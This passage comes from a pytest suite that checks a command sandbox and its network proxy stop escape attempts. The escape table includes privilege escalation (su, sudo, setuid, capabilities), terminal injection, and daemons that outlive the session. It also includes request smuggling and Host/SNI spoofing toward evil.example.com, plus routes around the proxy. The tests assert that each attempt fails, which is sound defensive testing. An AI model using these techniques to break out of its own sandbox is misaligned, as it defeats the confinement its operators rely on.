            "libc = ctypes.CDLL(None, use_errno=True)\n"
            f"found = libc.syscall({KEYCTL}, 0, -4, 0)\n"  # KEYCTL_GET_KEYRING_ID of the user keyring
            "raise SystemExit(0 if found >= 0 else 1)"
        ),
        unavailable=None if KEYCTL > 0 else f"no keyctl number for {ARCH}",
    ),
    Escape("personality-linux32-unshare", "setarch linux32 unshare -r true", needs=("setarch",)),
    Escape(
        "tiocsti-into-own-terminal", _py("import fcntl, termios; fcntl.ioctl(0, termios.TIOCSTI, b'x')"), stdin_pty=True
    ),
    Escape(
        "read-another-terminal",
        _py("import os; fd = os.open('{pty}', os.O_RDONLY | os.O_NONBLOCK); print(os.read(fd, 100))"),
        nobody=True,
    ),
    Escape(
        "write-another-terminal",
        _py("import os; os.write(os.open('{pty}', os.O_WRONLY), b'injected')"),
    ),
    Escape(
        "read-raw-block-device",
        f"dd if={BLOCK_DEVICE} of=/dev/null bs=512 count=1",
        unavailable=None if BLOCK_DEVICE else "no block device here",
    ),
    Escape("setuid-copy-gains-nothing", '[ "$(./suid-id -u)" = 0 ]', setup=_setuid_copy, only_nobody=True),
    Escape("su-to-root", "su root -c 'touch {out}/pwned' </dev/null", only_nobody=True),
    Escape("sudo-to-root", "sudo -n touch {out}/pwned", needs=("sudo",), only_nobody=True),
    Escape("newuidmap-helper", "newuidmap $$ 0 0 1", needs=("newuidmap",), only_nobody=True),
    Escape(
        "file-capabilities-copy",
        "./capable-cat {key}",
        setup=_capable_copy,
        needs=("setcap",),
        only_nobody=True,
    ),
    Escape("set-file-capabilities", "cp /bin/cat cat2 && setcap cap_dac_read_search+ep cat2", needs=("setcap",)),
    # ---- limits ----------------------------------------------------------------------------------------------------
    Escape(
        "raise-file-size-limit",
        _py("import resource as r; r.setrlimit(r.RLIMIT_FSIZE, (r.RLIM_INFINITY, r.RLIM_INFINITY))"),
        nobody=True,
    ),
    Escape("write-past-max-file-size", "head -c 2M /dev/zero > big", check=_file_at_most("big", 1 << 20)),
    Escape("fallocate-past-max-file-size", "fallocate -l 2M big", check=_file_at_most("big", 1 << 20)),
    Escape("truncate-past-max-file-size", "truncate -s 2M big", check=_file_at_most("big", 1 << 20)),
    Escape(
        "sparse-write-past-max-file-size",
        "dd if=/dev/zero of=big bs=1 count=1 seek=2M",
        check=_file_at_most("big", 1 << 20),
    ),
    Escape(
        "fill-temp-past-max-file-size",
        "head -c 2M /dev/zero > $TMPDIR/big",
        check=_file_at_most("{temp}/big", 1 << 20),
    ),
    Escape(
        "fork-past-max-processes",
        _py(FORKS),
        nobody=True,
    ),
    Escape(
        "daemon-outlives-command",
        "setsid sh -c 'echo $$ > $TMPDIR/daemon; exec sleep 300' </dev/null >/dev/null 2>&1 & "
        "while [ ! -s $TMPDIR/daemon ]; do :; done",
        fails=False,
        nobody=True,
    ),
    Escape(
        "daemon-with-its-environment-cleared-outlives-command",
        "setsid env -i LEFTOVER={token} sh -c 'echo $$ > \"$0\"; exec sleep 1000' $TMPDIR/daemon "
        "</dev/null >/dev/null 2>&1 & while [ ! -s $TMPDIR/daemon ]; do :; done",
        fails=False,
        check=_no_leftover,
        nobody=True,
    ),
    Escape(
        "double-fork-daemon-outlives-command",
        _py(
            "import os, sys\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        os.execve('/bin/sleep', ['sleep', '1000'], {{'LEFTOVER': '{token}'}})\n"
            "    os._exit(0)\n"
            "os.wait()\n"
            "while not any(b'LEFTOVER={token}' in open(f'/proc/{{p}}/environ', 'rb').read()\n"
            "              for p in os.listdir('/proc') if p.isdigit() and os.path.exists(f'/proc/{{p}}/environ')):\n"
            "    pass"
        ),
        fails=False,
        check=_no_leftover,
    ),
    Escape(
        "memory-past-the-sessions-limit",
        _py("chunks = [bytearray(16 << 20) for _ in range(24)]; print('allocated', 16 * len(chunks), 'MiB')"),
        unavailable=None if ROOT else "a session cgroup (the memory limit) needs root here",
    ),
    Escape(
        "lower-the-core-limit-for-a-piped-crash-handler",  # the kernel refuses a piped core_pattern at a limit of 1
        _py(
            "import resource as r\n"
            "r.setrlimit(r.RLIMIT_CORE, (0, 0))\n"
            "print(r.getrlimit(r.RLIMIT_CORE))\n"
            "raise SystemExit(0 if r.getrlimit(r.RLIMIT_CORE)[0] != 1 else 1)"
        ),
        nobody=True,
    ),
    Escape(
        "crash-writes-a-core-dump",
        "cd {ws} && ulimit -c unlimited; " + _py("import os; os.kill(os.getpid(), 11)") + "; ls core* 2>/dev/null",
        check=_no_core_file,
    ),
    Escape(
        "lease-on-a-file-outside",  # a lease holds back every outside process that opens the file
        _py(
            "import fcntl\n"
            "for path in ('{victim}', '/etc/hostname'):\n"
            "    with open(path) as f:\n"
            "        fcntl.fcntl(f, fcntl.F_SETLEASE, fcntl.F_RDLCK)"
        ),
        says="Operation not permitted",
        nobody=True,
    ),
    Escape(
        "lock-a-file-outside",
        _py("import fcntl; fcntl.flock(open('{victim}'), fcntl.LOCK_EX | fcntl.LOCK_NB); print('locked')"),
        nobody=True,
        root_hole=(
            "HOLE: an advisory lock (flock, fcntl) on a file outside that the command may read holds back the "
            "programs outside that take the same lock (a package manager's lock file), until the command ends "
            "(nothing of it outlives it); the file is never changed. Landlock and seccomp cannot tell the file"
        ),
        nobody_hole=(
            "HOLE: an advisory lock (flock, fcntl) on a file outside that the command may read holds back the "
            "programs outside that take the same lock, until the command ends"
        ),
    ),
    Escape(
        "write-through-an-inherited-descriptor",
        "ls -l /proc/self/fd/; echo pwned >&{inherited}",
        inherit=True,
    ),
    Escape(
        "capabilities-the-launcher-inherited",
        _py(
            "lines = open('/proc/self/status').read().splitlines()\n"
            "status = {{line.split(':')[0]: line.split()[-1] for line in lines if line.startswith('Cap')}}\n"
            "print({{k: status[k] for k in ('CapInh', 'CapPrm', 'CapEff', 'CapAmb')}})\n"
            "gained = int(status['CapEff'], 16) & (1 << 21 | 1 << 2)\n"
            "raise SystemExit(0 if gained or int(status['CapInh'], 16) or int(status['CapAmb'], 16) else 1)"
        ),
        prefix=_root_inheritable_capabilities(),
        unavailable=None if ROOT else "giving inheritable capabilities needs root",
        needs=("setpriv",),
    ),
    # ---- the network through the proxy ------------------------------------------------------------------------
    Escape(
        "proxy-refuses-other-host-http",
        "curl -sS --fail-with-body http://example.com/",
        proxy=True,
        check=_refused("example.com"),
    ),
    Escape(
        "proxy-refuses-other-host-https",
        "curl -sS --fail-with-body https://example.com/",
        proxy=True,
        check=_refused("example.com"),
    ),
    Escape("loopback-listener-with-proxy-on", "curl -sS --fail-with-body http://127.0.0.1:{port}/", proxy=True),
    Escape(
        "loopback-listener-through-proxy",
        "curl -sS --fail-with-body --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:{port}/",
        proxy=True,
        check=_refused("127.0.0.1"),
    ),
    Escape(
        "allowed-name-resolving-to-loopback",
        "curl -sS --fail-with-body --noproxy '' -x http://127.0.0.1:3128 http://localhost/",
        proxy=True,
        says="resolves to 127.0.0.1, a loopback address",
    ),
    Escape(
        "allowed-port-of-this-machines-lan-address",
        "curl -sS --fail-with-body --noproxy '' -x http://127.0.0.1:3128 http://{lan}:{lan_port}/",
        proxy=True,
        allow_more=lambda world: [f"{LAN_ADDRESS}:{world.values['lan_port']}"],
        says="an address of this machine",
        unavailable=None if LAN_ADDRESS else "this machine has no address but loopback and link-local ones",
    ),
    Escape(
        "proxy-refuses-other-ports",
        "curl -sS --fail-with-body http://pypi.org:8443/ || curl -sS --fail-with-body https://pypi.org:8443/",
        proxy=True,
        says="port 8443 of pypi.org is not allowed",
        check=_refused("pypi.org"),
    ),
    Escape(
        "proxy-host-header-names-another-host",
        _py(
            "import socket\n"
            "heads = [\n"
            "    'CONNECT pypi.org:443 HTTP/1.1\\r\\nHost: evil.example.com:443\\r\\n\\r\\n',\n"
            "    'GET http://pypi.org/ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n',\n"
            "    'GET http://pypi.org/ HTTP/1.1\\r\\nHost: pypi.org\\r\\nHost: evil.example.com\\r\\n\\r\\n',\n"
            "]\n"
            "through = []\n"
            "for head in heads:\n"
            "    with socket.create_connection(('127.0.0.1', 3128), timeout=20) as s:\n"
            "        s.sendall(head.encode())\n"
            "        status = s.recv(300)\n"
            "        print(repr(head), '->', status)\n"
            "        if b' 403 ' not in status and b' 400 ' not in status: through.append(head)\n"
            "raise SystemExit(0 if through else 1)"
        ),
        proxy=True,
    ),
    Escape(
        "proxy-tls-server-name-of-another-host",
        _py(
            "import socket, ssl\n"
            "s = socket.create_connection(('127.0.0.1', 3128), timeout=20)\n"
            "s.sendall(b'CONNECT pypi.org:443 HTTP/1.1\\r\\n\\r\\n')\n"
            "print(s.recv(300))\n"
            "tls = ssl.create_default_context(); tls.check_hostname = False; tls.verify_mode = ssl.CERT_NONE\n"
            "tls.wrap_socket(s, server_hostname='evil.example.com')\n"
            "print('handshake done: the front would route to evil.example.com')"
        ),
        proxy=True,
        needs_network=True,
        check=_refused("pypi.org"),
    ),
    Escape(
        "proxy-request-smuggling",
        _py(
            "import socket\n"
            "heads = [\n"
            "    'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: pypi.org:443\\r\\n\\r\\n',\n"
            "    'CONNECT pypi.org@127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n',\n"
            "    'CONNECT [::ffff:127.0.0.1]:{port} HTTP/1.1\\r\\n\\r\\n',\n"
            "    'CONNECT localhost.:{port} HTTP/1.1\\r\\n\\r\\n',\n"
            "    'CONNECT LOCALHOST:{port} HTTP/1.1\\r\\n\\r\\n',\n"
            "    'CONNECT 2130706433:{port} HTTP/1.1\\r\\n\\r\\n',\n"
            "    'GET http://pypi.org@127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n',\n"
            "    'GET http://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n',\n"
            "    'GET /127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n',\n"
            "]\n"
            "through = []\n"
            "for head in heads:\n"
            "    with socket.create_connection(('127.0.0.1', 3128), timeout=20) as s:\n"
            "        s.sendall(head.encode())\n"
            "        status = s.recv(200).split(b'\\r\\n')[0]\n"
            "        print(head.splitlines()[0], '->', status)\n"
            "        if b' 200 ' in status or not status: through.append(head)\n"
            "raise SystemExit(0 if through else 1)"
        ),
        proxy=True,
    ),
    Escape(
        "tcp-around-proxy",
        _py("{no_route_then}\nsocket.create_connection(('192.0.2.1', 443), timeout=5)"),
        proxy=True,
        says="Network is unreachable",
    ),
    Escape(
        "udp-around-proxy",
        _py("{no_route_then}\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))"),
        proxy=True,
        says="Network is unreachable",
    ),
    Escape("dns-around-proxy", _py("import socket; print(socket.getaddrinfo('pypi.org', 443))"), proxy=True),
    Escape(
        "proxy-socket-directly",
        _py("import socket; socket.socket(socket.AF_UNIX).connect('{base}/private/proxy.sock')"),
        proxy=True,
    ),
]


def _params(as_nobody: bool) -> Iterator[object]:
    for row in ESCAPES:
        if as_nobody and not (row.nobody or row.only_nobody):
            continue
        if not as_nobody and row.only_nobody:
            continue
        if as_nobody or (not ROOT and row.nobody_hole):
            hole, strict = row.nobody_hole, True
        else:  # as root; or as another user, for whom a hole seen as root may or may not be one
            hole, strict = row.root_hole, ROOT
        marks = [pytest.mark.xfail(strict=strict, reason=hole)] if hole else []
        yield pytest.param(row, id=row.id, marks=marks)


def _attempt(row: Escape, make_world: MakeLayout, token: str, user: int | None) -> None:
    missing = [tool for tool in row.needs if shutil.which(tool) is None]
    if missing:
        pytest.skip(f"needs {', '.join(missing)}")
    if row.unavailable is not None:
        pytest.skip(row.unavailable)
    if row.needs_network and not _resolves("pypi.org"):
        pytest.skip("pypi.org does not resolve here")
    layout = make_world(owner=user)
    world = World(layout, token, user)
    try:
        if row.setup is not None:
            row.setup(world)
        settings = PROXY_SETTINGS if row.proxy else SETTINGS
        if row.allow_more is not None:
            settings = settings.model_copy(update={"allow_hosts": [*settings.allow_hosts, *row.allow_more(world)]})
        walled = world.walled = Walled(layout, settings, as_user=user, mark=token)
        if row.inherit:
            world.inherited = os.open(layout.outside / "victim.txt", os.O_WRONLY | os.O_APPEND)
        if row.late is not None:
            row.late(world)
        world.before = world.look()
        command = row.command.format(**world.values)
        ran = walled.run(
            command,
            timeout=60.0,
            stdin=world.pty_slave if row.stdin_pty else subprocess.DEVNULL,
            prefix=row.prefix,
            pass_fds=(world.inherited,) if row.inherit else (),
        )
        shown = f"{row.id}: `{command}` -> {ran.status}\n{ran.output[-3000:]}"
        assert ran.status not in (126, 127), f"the attempt could not even start (a broken row): {shown}"
        if row.fails:
            assert ran.failed, f"the attempt got through: {shown}"
        if row.says is not None:
            assert row.says in ran.output, f"expected {row.says!r} in the output: {shown}"
        if row.check is not None:
            row.check(world, ran)
        nothing_outside_changed(world, ran, token)
    finally:
        world.close()


@pytest.mark.parametrize("row", list(_params(as_nobody=False)))
def test_escape_is_stopped(row: Escape, make_world: MakeLayout, token: str) -> None:
    _attempt(row, make_world, token, None)


@pytest.mark.skipif(not ROOT or shutil.which("setpriv") is None, reason="dropping to another user needs root")
@pytest.mark.parametrize("row", list(_params(as_nobody=True)))
def test_escape_is_stopped_unprivileged(row: Escape, make_world: MakeLayout, token: str) -> None:
    _attempt(row, make_world, token, NOBODY)


def test_the_table_is_large_enough() -> None:
    """The issue asks for at least 40 escape attempts."""
    assert len({row.id for row in ESCAPES}) == len(ESCAPES) >= 40


def test_the_proxy_forwarder_ends_with_the_command(make_world: MakeLayout, token: str) -> None:
    """A proxied command's forwarder (forked by the launcher before the walls) must end with the command; here
    the command's output pipe is left to tell: it closes when the last process holding it ends."""
    layout = make_world()
    walled = Walled(layout, PROXY_SETTINGS, mark=token)
    argv, extra_env = anyio.run(command_line, "echo done", walled.sandbox)
    env = {**child_environ(), **extra_env, MARK_VARIABLE: token}
    command = subprocess.Popen(argv, cwd=layout.workspace, env=env, stdout=subprocess.PIPE, stdin=subprocess.DEVNULL)
    try:
        output, _ = command.communicate(timeout=5)
        assert output == b"done\n"
    except subprocess.TimeoutExpired:
        raise AssertionError("the forwarder outlived the command (and held its output open)") from None
    finally:
        for pid in survivors(token):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        command.kill()
        command.communicate()


def test_the_proxy_closes_its_listener_when_stopped(make_world: MakeLayout, token: str) -> None:
    walled = Walled(make_world(), PROXY_SETTINGS, mark=token)
    assert walled.run("true").status == 0
    assert not walled.proxy_leaks
